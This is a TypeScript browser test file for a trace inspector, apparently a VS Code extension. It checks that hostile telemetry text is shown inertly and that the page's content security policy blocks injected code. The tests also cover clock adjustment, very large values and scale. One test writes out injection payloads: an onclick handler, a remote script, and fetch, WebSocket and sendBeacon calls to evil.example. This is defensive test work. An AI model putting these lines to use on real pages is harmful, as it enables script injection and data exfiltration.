import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { StoreView } from '../../src/collector/storeView.ts';
import type { TraceColumns } from '../../src/model/columns.ts';
import { parseSpanId, type TraceId } from '../../src/model/ids.ts';
import type { SpanDetails } from '../../src/protocol/details.ts';
import { documentText, rawSpanPath, valuePath } from '../../src/views/inspector/rawSpan.ts';
import { textPieces } from '../../webview/ui/visibleText.ts';
import { type Server, serve } from '../cli/program.ts';
import { PageBrowser, posted } from '../ui/page/openPage.ts';
import { Collected, idOf, START, span } from './support/collected.ts';
import { HOSTILE, HOSTILE_TEXT } from './support/hostile.ts';
import { spansBody } from './support/spanBodies.ts';

const MS = 1_000_000n;
const MANIFEST = join(import.meta.dirname, '../../package.json');

/** The page as it ships, in a browser; closed after the tests of the describe block this is called in. */
function pageBrowser(): () => PageBrowser {
  let browser: PageBrowser | undefined;
  before(async function () {
    this.timeout(60_000);
    browser = await PageBrowser.start();
  });
  after(() => browser?.close());
  return () => browser!;
}

describe('hostile telemetry in the inspector', function () {
  this.timeout(60_000);
  const collected = Collected.start();
  const browser = pageBrowser();

  /** Sends one span with hostile text everywhere and answers what the page gets of it. */
  async function hostileSpan(text: string): Promise<{ columns: TraceColumns; details: SpanDetails }> {
    const traceId = collected.traceId();
    const string = (value: string) => ({ stringValue: value });
    const attributes = [
      { key: text, value: string(text) },
      {
        key: 'list',
        value: {
          arrayValue: { values: [string(text), { kvlistValue: { values: [{ key: text, value: string(text) }] } }] },
        },
      },
      { key: 'url.full', value: string(`https://evil.example/?${text}`) },
      { key: 'db.query.text', value: string(text) },
      { key: 'gen_ai.prompt', value: string(text) },
    ];
    const start = '1725000000000000000';
    await collected.send({
      resourceSpans: [
        {
          resource: { attributes: [{ key: 'service.name', value: string(text) }, ...attributes] },
          schemaUrl: `javascript:${text}`,
          scopeSpans: [
            {
              scope: { name: text, version: text, attributes },
              schemaUrl: `https://evil.example/${text}`,
              spans: [
                {
                  traceId,
                  spanId: idOf(1),
                  traceState: text,
                  name: text,
                  kind: 3,
                  startTimeUnixNano: start,
                  endTimeUnixNano: '1725000001000000000',
                  attributes,
                  status: { code: 2, message: text },
                  links: [{ traceId, spanId: idOf(1), traceState: text, attributes }],
                  events: [
                    { timeUnixNano: start, name: text, attributes },
                    {
                      timeUnixNano: start,
                      name: 'exception',
                      attributes: [
                        { key: 'exception.type', value: string(text) },
                        { key: 'exception.message', value: string(text) },
                        { key: 'exception.stacktrace', value: string(`${text}\n    at ${text} (/x/${text}.js:1:1)`) },
                      ],
                    },
                  ],
                },
              ],
            },
          ],
        },
      ],
    });
    const found = await collected.collector.span(traceId, parseSpanId(idOf(1))!);
    assert.ok(found);
    return { columns: await collected.columns(traceId), details: found.details };
  }

  for (const [what, text] of [...Object.entries(HOSTILE), ['all of it together', HOSTILE_TEXT]] as const) {
    it(`X-31 X-32 X-34: ${what}, in names, keys, values, services, events and links, is text and asks for nothing`, async () => {
      const { columns, details } = await hostileSpan(text);
      const page = await browser().open({ given: { columns, details: [details] }, width: 1_300 });
      const requests: string[] = [];
      page.on('request', request => requests.push(request.url()));
      await page.getByRole('tab', { name: 'Overview' }).waitFor();
      for (const tab of await page.getByRole('tab').all()) {
        await tab.click();
        assert.ok((await page.getByRole('tabpanel').textContent())!.length > 0);
        const made =
          'img, svg, iframe, object, embed, form, base, meta[http-equiv=refresh], script:not([src]), style:not(:empty), b, h1:not(.header *)';
        assert.equal(await page.locator('body').locator(made).count(), 0);
      }
      // The key is there to be read, as it was sent but for what cannot be seen.
      await page.getByRole('tab', { name: /^Attributes/ }).click();
      const key = await page.getByRole('tabpanel').locator('dt').first().textContent();
      const visible = textPieces(text).map(piece => piece.text);
      assert.equal(key, visible.join(''));
      const hrefs = await page.evaluate<string[]>(`Array.from(document.links, link => link.getAttribute('href'))`);
      assert.deepEqual(
        hrefs.filter(href => href !== '#place'),
        [],
      );
      assert.equal(await page.evaluate('window.pwned'), undefined);
      assert.equal(await page.evaluate('Object.keys(Object.prototype).length'), 0);
      assert.deepEqual(
        requests.filter(url => !/\/webview\/[\w-]+\.js$|\/codicon\.ttf/.test(url)),
        [],
      );
      assert.deepEqual(browser().server.unexpected, []);
      await page.close();
    });
  }

  it('X-32: the policy of the page refuses inline code, eval and requests, even to code that got in', async () => {
    const { columns, details } = await hostileSpan('x');
    const page = await browser().open({ given: { columns, details: [details] } });
    const requests: string[] = [];
    const failures: (string | undefined)[] = [];
    page.on('request', request => requests.push(request.url()));
    page.on('requestfailed', request => failures.push(request.failure()?.errorText));
    const refused = await page.evaluate<string[]>(`(async () => {
      const refused = [];
      document.addEventListener('securitypolicyviolation', event => refused.push(event.effectiveDirective));
      const put = html => { const box = document.createElement('div'); box.innerHTML = html; document.body.append(box); };
      put('<img src="https://evil.example/i.png"><p onclick="window.pwned = 1">x</p><iframe src="https://evil.example/"></iframe>');
      document.querySelector('p[onclick]').click();
      const script = document.createElement('script');
      script.textContent = 'window.pwned = 1';
      document.body.append(script);
      const remote = document.createElement('script');
      remote.src = 'https://evil.example/x.js';
      document.body.append(remote);
      await fetch('https://evil.example/').catch(() => {});
      try { new WebSocket('wss://evil.example/'); } catch {}
      navigator.sendBeacon('https://evil.example/', 'x');
      await new Promise(done => setTimeout(done, 300));
      return refused;
    })()`);
    for (const directive of ['img-src', 'script-src-attr', 'script-src-elem', 'connect-src', 'frame-src']) {
      assert.ok(refused.includes(directive), `${directive} of ${refused}`);
    }
    assert.equal(await page.evaluate('window.pwned'), undefined);
    // What the browser lists among its requests it has refused itself, before anything was sent.
    const evil = requests.filter(url => url.includes('evil.example'));
    assert.deepEqual(
      failures,
      evil.map(() => 'csp'),
    );
    await page.close();
  });

  it('X-32: no part of the page makes markup or code out of text', () => {
    const bundle = join(import.meta.dirname, '../../dist/webview/inspector.js');
    const script = readFileSync(bundle, 'utf8');
    assert.ok(script.length > 10_000);
    assert.doesNotMatch(script, /\beval\(|new Function\(|document\.write|insertAdjacentHTML|outerHTML\s*=/);
  });

  it('X-33: the way to the editor is not left where other code finds it', async () => {
    const { columns, details } = await hostileSpan('x');
    const page = await browser().open({ given: { columns, details: [details] } });
    const handles = await page.evaluate<string[]>(`Object.getOwnPropertyNames(window).filter(name => {
      const value = window[name];
      return name !== 'editor' && typeof value === 'object' && value !== null && value !== window && 'postMessage' in value && 'setState' in value;
    })`);
    assert.deepEqual(handles, []);
    assert.equal(
      await page.evaluate(`(() => { try { acquireVsCodeApi(); return 'again'; } catch { return 'once'; } })()`),
      'once',
    );
    await page.close();
  });

  it('X-38: what is copied is the value as it was sent, and nothing around it', async () => {
    const { columns, details } = await hostileSpan(HOSTILE.formula);
    const page = await browser().open({ given: { columns, details: [details] }, width: 1_300 });
    await page.getByRole('tab', { name: /^Attributes/ }).click();
    await page.getByRole('tabpanel').getByRole('button', { name: /^Copy/ }).first().click();
    assert.deepEqual(
      (await posted(page, 'copy')).map(({ text }) => text),
      [HOSTILE.formula],
    );
    await page.close();
  });

  it('S-20: clocks are adjusted in the view only, on request; both times are shown, and what is kept does not change', async () => {
    const traceId = collected.traceId();
    const at = (from: number, to: number) => ({ start: START + BigInt(from) * MS, end: START + BigInt(to) * MS });
    const web = [
      span(traceId, 1, undefined, { name: 'page', ...at(0, 100) }),
      span(traceId, 2, 1, { name: 'call', ...at(10, 90) }),
    ];
    const stock = [
      span(traceId, 3, 2, { name: 'serve', ...at(-500, -440) }),
      span(traceId, 4, 3, { name: 'work', ...at(-490, -450) }),
    ];
    await collected.send(spansBody(web, [['service.name', 'web']]));
    await collected.send(spansBody(stock, [['service.name', 'stock']]));
    const kept = await collected.collector.otlp(traceId);
    const columns = await collected.columns(traceId);
    const { details } = (await collected.collector.span(traceId, parseSpanId(idOf(4))!))!;
    const page = await browser().open({ given: { columns, details: [details] }, width: 1_300 });
    const figures = page.locator('.figures');
    const toggle = page.getByRole('button', { name: /clocks/ });
    assert.match((await figures.textContent()) ?? '', /^600 ms/);
    assert.equal(await toggle.getAttribute('aria-pressed'), 'false');

    await toggle.click();
    await page.getByRole('row', { name: /^work/ }).click();
    assert.match((await figures.textContent()) ?? '', /^100 ms/);
    const facts = page.getByRole('tabpanel').locator('.fact');
    await facts.filter({ hasText: 'adjusted to' }).waitFor();
    assert.match((await facts.filter({ hasText: /^started/ }).textContent()) ?? '', /\+10 ms/);
    assert.match(
      (await facts.filter({ hasText: 'adjusted to' }).textContent()) ?? '',
      /\+30 ms.*520 ms later than sent/,
    );

    await toggle.click();
    assert.match((await figures.textContent()) ?? '', /^600 ms/);
    assert.equal(await collected.collector.otlp(traceId), kept);
    assert.deepEqual(await collected.columns(traceId), columns);
    const { properties } = JSON.parse(readFileSync(MANIFEST, 'utf8')).contributes.configuration;
    assert.equal(properties['spanside.inspector.adjustClockSkew'].default, false);
    await page.close();
  });

  it('S-20: services of one machine have one clock', async () => {
    const traceId = collected.traceId();
    const host = ['host.name', 'laptop'] as const;
    const early = { start: START - 500n * MS, end: START - 440n * MS };
    await collected.send(spansBody([span(traceId, 1, undefined)], [['service.name', 'web'], host]));
    await collected.send(spansBody([span(traceId, 2, 1, early)], [['service.name', 'stock'], host]));
    const columns = await collected.columns(traceId);
    assert.deepEqual(
      Array.from(columns.host, at => columns.strings[at]),
      ['laptop', 'laptop'],
    );
    const page = await browser().open({ given: { columns } });
    assert.equal(await page.getByRole('button', { name: /clocks/ }).count(), 0);
    await page.close();
  });

  it('S-34: an attribute of 16 MiB is kept, shown cut, and opens whole', async () => {
    const traceId = collected.traceId();
    const value = `${'0123456789abcdef'.repeat(1024 * 1024 - 1)}the very last!!!`;
    await collected.send(
      spansBody([
        span(traceId, 1, undefined, {
          attributes: [
            ['small', 'x'],
            ['app.payload', value],
          ],
        }),
      ]),
    );
    const spanId = parseSpanId(idOf(1))!;
    const { details } = (await collected.collector.span(traceId, spanId))!;
    assert.ok(JSON.stringify(details).length < 1024 * 1024);
    const columns = await collected.columns(traceId);
    const page = await browser().open({ given: { columns, details: [details] }, width: 1_300 });
    await page.getByRole('tab', { name: /^Attributes/ }).click();
    const panel = page.getByRole('tabpanel');
    assert.match((await panel.textContent()) ?? '', /cut from 16,777,216 characters/);
    assert.equal(await panel.getByRole('button', { name: /open full value/i }).count(), 1);
    await panel.getByRole('button', { name: 'Open full value of app.payload' }).click();
    const [opened] = await posted(page, 'openValue');
    assert.deepEqual(opened, { type: 'openValue', spanId, place: 'attributes/1' });
    const whole = await documentText(collected.collector, valuePath(traceId, spanId, opened!.place));
    assert.ok(whole === value);
    const raw = JSON.parse(await documentText(collected.collector, rawSpanPath(traceId, spanId)));
    assert.ok(raw.attributes[1].value.stringValue === value);
    await page.close();
  });
});

describe('one trace of very many spans', function () {
  this.timeout(120_000);
  const browser = pageBrowser();
  let server: Server | undefined;
  let folder = '';

  beforeEach(async () => {
    folder = mkdtempSync(join(tmpdir(), 'spanside-test-'));
    server = await serve(folder);
  });
  afterEach(async () => {
    await server?.kill();
    rmSync(folder, { recursive: true, force: true, maxRetries: 3 });
  });

  const traceId = '5ade00000000000000000000000000aa' as TraceId;

  /** Sends a tree ten wide, in requests of 5,000 spans. */
  async function sendTree(count: number): Promise<void> {
    for (let from = 1; from <= count; from += 5_000) {
      const spans = Array.from({ length: Math.min(5_000, count - from + 1) }, (_, i) => {
        const n = from + i;
        return span(traceId, n, n === 1 ? undefined : Math.max(1, Math.floor(n / 10)), { name: `step ${n % 50}` });
      });
      const body = Uint8Array.from(spansBody(spans));
      const headers = { 'content-type': 'application/x-protobuf' };
      const response = await fetch(`${server!.url}/v1/traces`, { method: 'POST', headers, body });
      assert.equal(response.status, 200);
      await response.arrayBuffer();
    }
  }

  /** The rows, once all spans are indexed. */
  async function readColumns(count: number): Promise<{ columns: TraceColumns; ms: number }> {
    const view = new StoreView([folder]);
    try {
      while ((view.summary(traceId)?.spanCount ?? 0) < count) await new Promise(resolve => setTimeout(resolve, 50));
      const from = performance.now();
      const columns = view.trace(traceId)?.columns();
      assert.ok(columns);
      return { columns, ms: performance.now() - from };
    } finally {
      view.close();
    }
  }

  /** Megabytes that a process holds, by the kernel's count. */
  function residentMb(pid: number): number {
    return Number(/^VmRSS:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1]) / 1024;
  }

  async function heapMb(page: Page): Promise<number> {
    const session = await page.context().newCDPSession(page);
    await session.send('HeapProfiler.collectGarbage');
    const { usedSize, backingStorageSize } = await session.send('Runtime.getHeapUsage');
    await session.detach();
    return (usedSize + backingStorageSize) / 1024 / 1024;
  }

  for (const { count, paintMs, columnsMs } of [
    { count: 100_000, paintMs: 3_000, columnsMs: 8_000 },
    { count: 500_000, paintMs: 10_000, columnsMs: 30_000 },
  ]) {
    it(`S-33: ${count.toLocaleString('en')} spans are taken, read and drawn; the page holds few elements and no more memory as it is read`, async () => {
      await sendTree(count);
      const { columns, ms } = await readColumns(count);
      assert.equal(columns.rows, count);
      assert.equal(columns.spanCount, count);
      assert.ok(ms < columnsMs, `columns took ${ms} ms`);

      const page = await browser().open({ given: { columns } });
      const paint = await page.evaluate<number>('window.editor.firstPaintMs');
      assert.ok(paint < paintMs, `the first paint took ${paint} ms`);
      const elements = await page.locator('*').count();
      assert.ok(elements < 3_000, `${elements} elements`);
      const before = await heapMb(page);
      const scroll = (share: number) =>
        page.evaluate(`new Promise(done => {
          const grid = document.querySelector('[role=treegrid]');
          grid.scrollTop = (grid.scrollHeight - grid.clientHeight) * ${share};
          requestAnimationFrame(() => requestAnimationFrame(done));
        })`);
      for (let step = 0; step <= 40; step++) await scroll(step / 40);
      assert.equal(await page.locator(`[role=row][aria-rowindex="${count + 1}"]`).count(), 1);
      const after = await heapMb(page);
      assert.ok(after - before < 10, `the heap grew from ${before} to ${after} MB`);
      assert.ok((await page.locator('*').count()) < 3_000);
      console.log(
        `      columns ${ms.toFixed(0)} ms, first paint ${paint.toFixed(0)} ms, heap of the page ${before.toFixed(0)} MB, ${elements} elements`,
      );
      await page.close();
    });
  }

  it('S-33: what ingest holds does not grow with the trace', async function () {
    if (process.platform !== 'linux') this.skip();
    const { pid } = server!.process;
    await sendTree(100_000);
    await readColumns(100_000);
    const small = residentMb(pid!);
    await sendTree(400_000);
    await readColumns(400_000);
    const large = residentMb(pid!);
    console.log(`      ${small.toFixed(0)} MB after 100,000 spans, ${large.toFixed(0)} MB after 400,000`);
    assert.ok(large - small < 150, `${small} MB grew to ${large} MB`);
  });
});
